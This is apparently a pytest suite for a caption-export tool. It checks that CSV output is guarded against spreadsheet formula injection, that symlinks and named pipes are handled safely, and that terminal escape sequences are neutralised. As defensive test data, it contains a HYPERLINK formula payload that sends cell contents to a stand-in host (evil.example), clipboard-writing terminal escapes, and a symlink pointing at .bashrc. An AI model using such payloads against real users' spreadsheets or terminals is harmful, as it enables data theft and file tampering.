"""Hostile export targets and contents: links, pipes, devices and folders where an export or a caption goes,
captions and names a spreadsheet would run as formulas, and names whose bytes are not UTF-8."""

from __future__ import annotations

import csv
import io
import os
import stat
import sys
import threading
from pathlib import Path

import pytest

from caprl_desktop.core.atomic import WriteError, atomic_write_text
from caprl_desktop.core.export.writers import (
    CaptionRecord,
    CsvExporter,
    JsonlExporter,
    open_exporter,
    read_csv,
    read_jsonl,
    write_records,
)

posix_only = pytest.mark.skipif(os.name == "nt", reason="named pipes, /dev/null and non-UTF-8 names are POSIX's")


def record(name: str = "a.jpg", caption: str = "A cat.", folder: str = "/photos") -> CaptionRecord:
    return CaptionRecord(name, caption, "en", "Describe.", "CapRL-3B.gguf", 1.5, 9, "", f"{folder}/{name}")


def raw_cells(path: Path) -> list[list[str]]:
    """The cells as a spreadsheet gets them: no undoing of anything the writer did."""
    with open(path, encoding="utf-8-sig", errors="surrogateescape", newline="") as f:
        return list(csv.reader(f))


# --- item 9: formulas in CSV ---------------------------------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_csv_cell_a_spreadsheet_would_run_starts_with_an_apostrophe(tmp_path: Path, start: str) -> None:
    caption = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    name = f"{start}cmd.png"
    target = tmp_path / "captions.csv"
    write_records(target, "csv", [record(name, caption)])
    header, row = raw_cells(target)
    cells = dict(zip(header, row, strict=True))
    assert cells["caption"] == "'" + caption
    assert cells["file_name"] == "'" + name
    assert cells["path"] == f"/photos/{name}"  # starts with "/": nothing to guard
    assert read_csv(target)[0]["caption"] == caption  # our reader gives back the caption as it was
    assert read_csv(target)[0]["file_name"] == name


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_json_lines_keep_the_same_text_exactly(tmp_path: Path, start: str) -> None:
    caption = f"{start}1+2"
    for kind, name in (("jsonl", "captions.jsonl"), ("metadata", "metadata.jsonl")):
        target = tmp_path / name
        write_records(target, kind, [record(f"{start}x.png", caption, folder=str(tmp_path))])
        row = read_jsonl(target)[0]
        assert row["caption" if kind == "jsonl" else "text"] == caption
        assert row["file_name"] == f"{start}x.png"


def test_an_apostrophe_already_there_reads_back_as_it_was(tmp_path: Path) -> None:
    captions = ["'=1+1", "'Tis the season.", "plain", "a = b", "1-2", "-"]
    target = tmp_path / "captions.csv"
    write_records(target, "csv", [record(f"{i}.png", c) for i, c in enumerate(captions)])
    assert [r["caption"] for r in read_csv(target)] == captions
    assert [row[1] for row in raw_cells(target)[1:]] == ["''=1+1", "''Tis the season.", "plain", "a = b", "1-2", "'-"]


def test_numbers_are_not_guarded(tmp_path: Path) -> None:
    target = tmp_path / "captions.csv"
    write_records(target, "csv", [CaptionRecord("a.png", "x", "en", "p", "m", -1.0, -3, "", "/a.png")])
    header, row = raw_cells(target)
    cells = dict(zip(header, row, strict=True))
    assert cells["seconds"] == "-1.0" and cells["output_tokens"] == "-3"  # numbers, not text a formula hides in


# --- item 5: what the export target is -----------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_an_export_to_a_link_writes_through_to_its_file_and_keeps_the_link(tmp_path: Path, kind: str) -> None:
    real = tmp_path / "kept" / f"captions.{kind}"
    real.parent.mkdir()
    real.write_text("earlier\n", encoding="utf-8")
    link = tmp_path / f"link.{kind}"
    link.symlink_to(real)
    report = write_records(link, kind, [record()])
    assert report.target == link
    assert link.is_symlink() and link.resolve() == real
    rows = read_csv(real) if kind == "csv" else read_jsonl(real)
    assert rows[0]["caption"] == "A cat."
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kept", f"link.{kind}"]  # no partial left anywhere
    assert sorted(p.name for p in real.parent.iterdir()) == [f"captions.{kind}"]


def test_an_export_to_a_dangling_link_makes_the_file_it_names(tmp_path: Path) -> None:
    real = tmp_path / "captions.csv"
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    write_records(link, "csv", [record()])
    assert link.is_symlink() and read_csv(real)[0]["caption"] == "A cat."


@posix_only
def test_an_export_to_dev_null_through_a_link_writes_into_the_device(tmp_path: Path) -> None:
    link = tmp_path / "null.csv"
    link.symlink_to(os.devnull)
    report = write_records(link, "csv", [record()])
    assert report.written == 1 and report.target == link
    assert link.is_symlink() and stat.S_ISCHR(Path(os.devnull).stat().st_mode)
    assert [p.name for p in tmp_path.iterdir()] == ["null.csv"]


@posix_only
@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_an_export_to_a_named_pipe_is_written_into_the_pipe(tmp_path: Path, kind: str) -> None:
    pipe = tmp_path / f"captions.{kind}"
    os.mkfifo(pipe)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()), daemon=True)
    reader.start()
    try:
        exporter = open_exporter(str(pipe), kind)
        exporter.write(record(caption="through the pipe"))
        assert exporter.close() == pipe
    finally:
        reader.join(timeout=30)
    assert b"through the pipe" in received[0]
    assert stat.S_ISFIFO(pipe.lstat().st_mode)  # still a pipe, not a file put in its place
    assert [p.name for p in tmp_path.iterdir()] == [pipe.name]


def test_an_export_to_a_folder_is_refused_with_a_sentence(tmp_path: Path) -> None:
    folder = tmp_path / "captions.csv"
    folder.mkdir()
    with pytest.raises(WriteError, match=r"captions\.csv is a folder, not a file"):
        open_exporter(str(folder), "csv")
    assert folder.is_dir() and list(tmp_path.iterdir()) == [folder]


def test_a_link_planted_as_the_partial_file_is_not_followed(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    target = tmp_path / "out" / "captions.csv"
    target.parent.mkdir()
    (target.parent / "captions.csv.partial").symlink_to(victim)
    write_records(target, "csv", [record()])
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert read_csv(target)[0]["caption"] == "A cat."
    assert sorted(p.name for p in target.parent.iterdir()) == ["captions.csv"]


def test_an_export_to_a_terminal_shows_control_characters(monkeypatch: pytest.MonkeyPatch) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    shown = Terminal()
    monkeypatch.setattr(sys, "stdout", shown)
    exporter = open_exporter("-", "csv")
    exporter.write(record("\x1b]0;title\x07.png", "\x1b]52;c;cHduZWQ=\x07\x9b2J"))
    exporter.close()
    text = shown.getvalue()
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text and "\r" not in text
    assert "\\x1b]52;c;cHduZWQ=\\x07\\x9b2J" in text


# --- item 5: sidecars and settings (core/atomic.py) ----------------------------------------------


def test_a_sidecar_that_links_inside_its_folder_is_written_through(tmp_path: Path) -> None:
    real = tmp_path / "captions" / "a.txt"
    real.parent.mkdir()
    real.write_text("old\n", encoding="utf-8")
    sidecar = tmp_path / "a.txt"
    sidecar.symlink_to(Path("captions") / "a.txt")
    atomic_write_text(sidecar, "new caption\n")
    assert sidecar.is_symlink() and real.read_text(encoding="utf-8") == "new caption\n"
    assert sorted(p.name for p in real.parent.iterdir()) == ["a.txt"]  # no temporary left beside it


def test_a_sidecar_that_links_outside_its_folder_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "home" / ".bashrc"
    outside.parent.mkdir()
    outside.write_text("precious\n", encoding="utf-8")
    folder = tmp_path / "photos"
    folder.mkdir()
    sidecar = folder / "a.txt"
    sidecar.symlink_to(Path("..") / "home" / ".bashrc")
    with pytest.raises(WriteError, match=r"a\.txt could not be written: it is a link to .*outside its") as caught:
        atomic_write_text(sidecar, "a caption\n")
    assert caught.value.problem == "other"  # this file's problem, not the folder's: the run goes on
    assert outside.read_text(encoding="utf-8") == "precious\n" and sidecar.is_symlink()
    assert sorted(p.name for p in folder.iterdir()) == ["a.txt"]


@posix_only
def test_a_sidecar_that_is_a_named_pipe_is_refused_not_replaced(tmp_path: Path) -> None:
    pipe = tmp_path / "a.txt"
    os.mkfifo(pipe)
    with pytest.raises(WriteError, match=r"a\.txt could not be written: it is a named pipe, not a file"):
        atomic_write_text(pipe, "a caption\n")
    assert stat.S_ISFIFO(pipe.lstat().st_mode)
    assert [p.name for p in tmp_path.iterdir()] == ["a.txt"]


def test_a_sidecar_that_is_a_folder_is_refused_with_a_sentence(tmp_path: Path) -> None:
    (tmp_path / "a.txt").mkdir()
    with pytest.raises(WriteError, match=r"a\.txt could not be written: it is a folder, not a file"):
        atomic_write_text(tmp_path / "a.txt", "a caption\n")


# --- item 17: names whose bytes are not UTF-8 ----------------------------------------------------


@posix_only
@pytest.mark.parametrize("kind", ["csv", "jsonl", "metadata"])
def test_a_name_that_is_not_utf8_is_exported_and_reads_back_the_same(tmp_path: Path, kind: str) -> None:
    name = os.fsdecode(b"\xff\xfe \xe5\x86\x99.png")  # two stray bytes, then a valid 写
    target = tmp_path / {"csv": "captions.csv", "jsonl": "captions.jsonl", "metadata": "metadata.jsonl"}[kind]
    report = write_records(target, kind, [record(name, "夕日", str(tmp_path)), record("b.png", folder=str(tmp_path))])
    assert report.written == 2
    if kind == "csv":
        cells = read_csv(target)
        assert cells[0]["file_name"] == name and cells[0]["path"] == str(tmp_path / name)
        assert b"\xff\xfe \xe5\x86\x99.png" in target.read_bytes()  # the name's own bytes
    else:
        target.read_bytes().decode("utf-8")  # still valid UTF-8 throughout: any JSON reader takes it
        rows = read_jsonl(target)
        assert rows[0]["file_name"] == name
        assert os.fsencode(str(rows[0]["file_name"])) == b"\xff\xfe \xe5\x86\x99.png"
        assert rows[0]["caption" if kind == "jsonl" else "text"] == "夕日"  # UTF-8 text stays readable
        assert "夕日" in target.read_text(encoding="utf-8")


@posix_only
def test_a_sidecar_of_a_name_that_is_not_utf8_is_written(tmp_path: Path) -> None:
    sidecar = Path(os.fsdecode(os.fsencode(tmp_path) + b"/\xff\xfe.txt"))
    atomic_write_text(sidecar, "a caption\n")
    assert (os.fsencode(tmp_path) + b"/\xff\xfe.txt") in [os.fsencode(p) for p in tmp_path.iterdir()]
    assert sidecar.read_text(encoding="utf-8") == "a caption\n"


def test_a_stdout_export_of_a_name_that_is_not_utf8_keeps_its_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="utf-8")
    monkeypatch.setattr(sys, "stdout", out)
    exporter = JsonlExporter(None)
    exporter.write(record("\udcff.png"))
    exporter.close()
    csv_exporter = CsvExporter(None)
    csv_exporter.write(record("\udcff.png"))
    csv_exporter.close()
    out.flush()
    data = raw.getvalue()
    assert b'"file_name": "\\udcff.png"' in data  # JSON: the escape
    assert b"\n\xff.png," in data  # CSV: the byte itself


def test_a_text_utf8_cannot_hold_fails_that_file_alone_with_a_sentence(tmp_path: Path) -> None:
    target = tmp_path / "a.txt"
    target.write_text("earlier\n", encoding="utf-8")
    with pytest.raises(WriteError, match=r"a\.txt was not written: its text holds '\\ud800'") as caught:
        atomic_write_text(target, "a caption from a server's JSON \ud800\n")  # "\ud800" is valid JSON
    assert caught.value.problem == "other"
    assert target.read_text(encoding="utf-8") == "earlier\n"
